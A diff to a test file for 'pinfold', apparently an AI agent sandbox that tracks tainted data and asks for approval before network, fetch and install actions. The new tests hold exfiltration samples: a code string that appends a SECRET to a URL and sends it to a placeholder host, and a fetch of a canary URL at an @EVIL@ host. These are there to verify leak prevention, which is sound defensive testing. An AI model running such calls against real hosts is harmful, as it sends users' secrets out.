@@ -20,6 +20,7 @@ from pinfold.app.privacy import Privacy
 from pinfold.app.sent import Departure, departures
 from pinfold.engine import fold
 from pinfold.events import (
+    FLOW,
     ActionDenied,
     ActionFinished,
     ApprovalRequested,
@@ -36,6 +37,7 @@ pytestmark = [
     pytest.mark.skipif(sys.platform != "linux", reason="namespaces are Linux's"),
 ]
 GET = "import urllib.request\ndata = urllib.request.urlopen('http://@LISTED@/data', timeout=5).read()\nopen('d', 'wb').write(data)"
+SEND = "import urllib.request\nurllib.request.urlopen('http://@LISTED@/' + SECRET, timeout=5).read()"
 PAGE = call("fetch", url=PAGE_URL)
 
 
@@ -58,7 +60,7 @@ async def test_taint_never_goes_back(tmp_path: Path, between: tuple[Any, ...]) -
     assert shown.tainted
     asked = [event for event in shown.events if isinstance(event, ApprovalRequested)]
     assert "nothing leaves unseen" in asked[-1].reason
-    assert asked[-1].pattern == ""
+    assert asked[-1].pattern.startswith(FLOW)
 
 
 async def test_downloads_into_an_empty_folder_taint_nothing(tmp_path: Path) -> None:
@@ -102,14 +104,30 @@ async def test_under_taint_code_gets_no_connection_and_no_grant_helps(tmp_path: 
     assert [one.partition(":")[0] for one in shown.asked] == ["network", "fetch"]
 
 
-async def test_under_taint_a_package_is_asked_about_in_every_mode(tmp_path: Path) -> None:
-    package = call("install", package="surely-not-there")
-    shown = await played(tmp_path, *TURNED, package, mode="full", answers="no")
-    assert [one.partition(":")[0] for one in shown.asked] == ["install"]
-    untainted = await play(
-        Scenario(name="x", kind="x", steps=(READS, package), mode="full", answers="no"), tmp_path / "other"
+@pytest.mark.parametrize(
+    ("flows", "leaked"), [((), []), (("@LISTED@",), ["the listed host"]), (("listed.example:1",), [])]
+)
+@pytest.mark.parametrize(
+    "step", [call("fetch", url="http://@LISTED@/@CANARY@"), cell(SEND)], ids=["fetch", "code"]
+)
+async def test_under_taint_a_session_sends_to_the_hosts_it_was_given_beforehand_and_to_no_other(
+    tmp_path: Path, flows: tuple[str, ...], leaked: list[str], step: Step
+) -> None:
+    elsewhere = call("fetch", url="http://@EVIL@/@CANARY@")
+    shown = await played(tmp_path, *TURNED, step, step, elsewhere, flows=flows, where="workspace")
+    assert shown.tainted
+    assert shown.leaked == leaked
+
+
+@pytest.mark.parametrize(("mode", "asked"), [("auto", ["install"]), ("full", [])])
+async def test_under_taint_a_package_is_asked_about_unless_all_is_allowed(
+    tmp_path: Path, mode: Any, asked: list[str]
+) -> None:
+    shown = await played(
+        tmp_path, *TURNED, call("install", package="surely-not-there"), mode=mode, answers="no"
     )
-    assert untainted.asked == []
+    assert shown.tainted
+    assert [one.partition(":")[0] for one in shown.asked] == asked
 
 
 async def test_a_picture_of_the_users_makes_it_private() -> None:
